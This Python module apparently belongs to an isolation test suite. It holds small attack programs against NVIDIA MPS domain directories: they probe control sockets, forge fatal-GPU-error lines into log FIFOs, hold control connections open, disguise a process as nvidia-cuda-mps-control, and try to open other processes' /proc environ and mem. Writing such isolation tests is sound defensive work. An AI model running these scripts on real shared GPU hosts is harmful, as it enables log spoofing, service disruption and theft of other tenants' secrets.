"""Attacks on the private directories of domains: Python programs, of the standard library alone.

The first word is mpsd's state directory.  Those that end print JSON: `found`, the sockets of vendor
daemons that /proc/net/unix lists; `reached`, what could be opened.
"""

PATHS = """
import json, os, socket, sys, time
state = sys.argv[1]
words = [line.split() for line in open("/proc/net/unix")]
found = sorted({w[7] for w in words if len(w) > 7 and w[7].startswith(state + "/") and "/pipe/control" in w[7]})
def connect(path):
    end = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET | socket.SOCK_NONBLOCK)
    end.connect(path)
    return end
def report(reached):
    print(json.dumps({"found": found, "reached": reached}))
"""
CONNECT = PATHS + """
reached = []
for path in found:
    try:
        connect(path)
    except PermissionError:
        continue
    except BlockingIOError:
        pass
    reached.append(path)
report(reached)
"""
FORGE = PATHS + """
reached, seconds, servers = [], float(sys.argv[2]), sys.argv[3:]
until = time.monotonic() + seconds
while True:
    for path in {os.path.dirname(path) + "/log" for path in found}:
        try:
            fifo = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for pid in servers:
            for text in ("Client {PID: %s, Context: 1} encountered a fatal GPU error." % pid,
                         "Server is handling a fatal GPU error."):
                os.write(fifo, ("[2026-11-22 00:00:00.000 Server %5s] %s\\n" % (pid, text)).encode())
        os.close(fifo)
        reached.append(path)
    if time.monotonic() > until:
        break
    time.sleep(0.1)
report(sorted(set(reached)))
"""
SILENT = PATHS + """
held = {}
assert found
print("ready", flush=True)
while True:
    for path in found:
        try:
            if path in held and held[path].recv(1, socket.MSG_PEEK) == b"":
                del held[path]
        except OSError:
            pass
        try:
            held.setdefault(path, None) or held.__setitem__(path, connect(path))
        except OSError:
            held.pop(path, None)
    time.sleep(0.02)
"""
PRETEND = """
import os, sys
if len(sys.argv) > 2:
    os.environ["CUDA_MPS_PIPE_DIRECTORY"] = sys.argv[1]
    with open(sys.argv[2], "w") as file:
        file.write(str(os.getpid()))
    os.execv(sys.executable, ["nvidia-cuda-mps-control", "-ISc", "import time; print('ready', flush=True); time.sleep(600)"])
"""
LOOK = """
import json, os, sys
reached = {}
for pid in sys.argv[1:]:
    for what in ("root", "cwd", "fd/0", "fd/3", "environ", "mem"):
        place = "/proc/%s/%s" % (pid, what)
        try:
            os.readlink(place) if os.path.islink(place) else os.close(os.open(place, os.O_RDONLY))
            reached[pid + what] = True
        except OSError:
            pass
print(json.dumps(reached))
"""
